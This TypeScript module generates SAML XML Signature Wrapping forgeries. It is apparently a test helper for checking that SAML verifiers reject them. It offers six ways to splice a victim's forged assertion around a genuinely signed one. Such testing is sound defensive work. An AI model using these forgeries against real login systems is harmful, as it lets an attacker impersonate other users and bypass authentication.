/** Ways of wrapping a signed assertion so that a careless reader believes another one. Each takes and gives a whole response. */
const wrappings: Record<
  string,
  (parts: { before: string; signed: string; signature: string; evil: string; after: string }) => string
> = {
  // The false one stands first, the signed one after it.
  sibling: ({ before, signed, evil, after }) => `${before}${evil}${signed}${after}`,
  siblingAfter: ({ before, signed, evil, after }) => `${before}${signed}${evil}${after}`,
  // The signed one lies inside the false one.
  inside: ({ before, signed, evil, after }) =>
    `${before}${evil.replace('</saml:Assertion>', `<saml:Advice>${signed}</saml:Advice></saml:Assertion>`)}${after}`,
  // The false one carries the signature, which refers to the true one lying in it.
  object: ({ before, signed, signature, evil, after }) => {
    const carried = signature.replace(
      '</ds:Signature>',
      `<ds:Object>${signed.replace(signature, '')}</ds:Object></ds:Signature>`,
    );
    return `${before}${evil.replace('</saml:Issuer>', `</saml:Issuer>${carried}`)}${after}`;
  },
  // The true one is hidden among the extensions, the false one carries its signature.
  extensions: ({ before, signed, signature, evil, after }) =>
    `${before.replace('</saml:Issuer>', `</saml:Issuer><samlp:Extensions>${signed.replace(signature, '')}</samlp:Extensions>`)}${evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)}${after}`,
  // Both have the same id.
  sameId: ({ before, signed, signature, evil, after }) => {
    const id = / ID="([^"]+)"/.exec(signed)?.[1] ?? '';
    const twin = evil.replace(/ ID="[^"]+"/, ` ID="${id}"`).replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
    return `${before.replace('</saml:Issuer>', `</saml:Issuer><samlp:Extensions>${signed}</samlp:Extensions>`)}${twin}${after}`;
  },
};

/** Names of the wrappings. */
export const wrappingNames = Object.keys(wrappings);

/** A response in which a signed assertion stands beside a false one about somebody else. */
export function wrap(xml: string, name: string, victim: { subject: string; email: string }): string {
  const signed = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
  const signature = /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(signed)?.[0] ?? '';
  const make = wrappings[name];
  if (!make || signature === '') throw new Error(`there is no wrapping ${name}, or nothing to wrap`);
  const evil = signed
    .replace(signature, '')
    .replace(/ ID="[^"]+"/, ' ID="_false"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim.subject}`)
    .replace(/(Name="email"[^>]*><saml:AttributeValue[^>]*>)[^<]*/, `$1${victim.email}`);
  const at = xml.indexOf(signed);
  return make({ before: xml.slice(0, at), signed, signature, evil, after: xml.slice(at + signed.length) });
}
